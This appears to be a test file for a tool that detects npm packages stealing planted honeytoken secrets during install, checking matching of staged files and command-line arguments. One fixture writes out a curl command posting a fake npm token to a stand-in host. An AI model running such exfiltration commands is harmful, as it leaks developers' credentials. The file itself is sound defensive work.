/** A secret read and then staged in a file or handed to a program is provable with the planted tokens. */
import test from 'ava';
import type { FileEvent, ProcessEvent, TraceEvent } from '../../../src/events/types.js';
import type { HomeFile, Honeytoken } from '../../../src/honeytokens/create-honeytokens.js';
import { markHandedHoneytokens } from '../../../src/honeytokens/mark-handed.js';
import { markStagedHoneytokens, stagingNeedles } from '../../../src/honeytokens/staged-files.js';

const TOKEN: Honeytoken = { id: 'npm-token', label: 'npm token in ~/.npmrc', value: 'npm_q7Rk2mVx9LpA4sTw8ZcE1bNy6HdJ3fGuKo0i' };
const attribution = { package: 'evil', via: 'lifecycle-script' } as const;
const base = { phase: 'install' as const, pid: 42, timestampMs: 5, attribution, ok: true };
const write = (path: string): FileEvent => ({ ...base, kind: 'file', operation: 'open', path, access: 'write' });
const BAIT: HomeFile[] = [{ path: '.npmrc', content: '', mode: 0o600, tokens: ['npm-token'] }];
const fallback = { attribution, phase: 'install' as const, timestampMs: 9 };

test('the needles are slices of the token raw, hex and base64 at every alignment', (t) => {
  const needles = stagingNeedles([TOKEN]).map((needle) => needle.text);
  t.true(needles.includes(TOKEN.value.slice(0, 24)));
  t.true(needles.includes(Buffer.from(TOKEN.value).toString('hex').slice(0, 24)));
  for (const prefix of ['', 'x', 'xy']) {
    const encoded = Buffer.from(`${prefix}${TOKEN.value}`).toString('base64');
    t.true(needles.some((needle) => encoded.includes(needle)), `base64 after ${prefix.length} byte(s)`);
  }
  t.true(needles.every((needle) => needle.length === 24));
});

test('the write of a file found holding a token is marked staged; the bait itself is not', (t) => {
  const needles = stagingNeedles([TOKEN]);
  const hits = [
    { path: '/tmp/.x', needle: TOKEN.value.slice(0, 24) },
    { path: '/home/runner/.npmrc', needle: TOKEN.value.slice(0, 24) },
  ];
  const events: TraceEvent[] = [write('/tmp/.x'), write('/home/runner/.npmrc')];
  const marked = markStagedHoneytokens(events, hits, { needles, baitFiles: BAIT, homeDir: '/home/runner', fallback });
  t.like(marked[0], { honeytoken: { token: 'npm-token', how: 'staged' } });
  t.is(marked[1]?.honeytoken, undefined);
});

test('a staged file the trace saw no write of is charged to the package', (t) => {
  const marked = markStagedHoneytokens([], [{ path: '/dev/shm/k', needle: TOKEN.value.slice(-24) }], { needles: stagingNeedles([TOKEN]), baitFiles: BAIT, homeDir: '/home/runner', fallback });
  t.like(marked[0], { kind: 'file', path: '/dev/shm/k', access: 'write', timestampMs: 9, attribution, honeytoken: { how: 'staged' } });
});

test('a program started with a token on its command line is marked handed', (t) => {
  const curl: ProcessEvent = { ...base, kind: 'process', executable: '/usr/bin/curl', argv: ['curl', '-d', `t=${TOKEN.value}`, 'http://c.example'], parentPid: 1, cwd: null };
  const ls: ProcessEvent = { ...curl, argv: ['ls'] };
  const [marked, plain] = markHandedHoneytokens([curl, ls], [TOKEN]);
  t.like(marked, { honeytoken: { token: 'npm-token', how: 'handed' } });
  t.is(plain?.honeytoken, undefined);
});
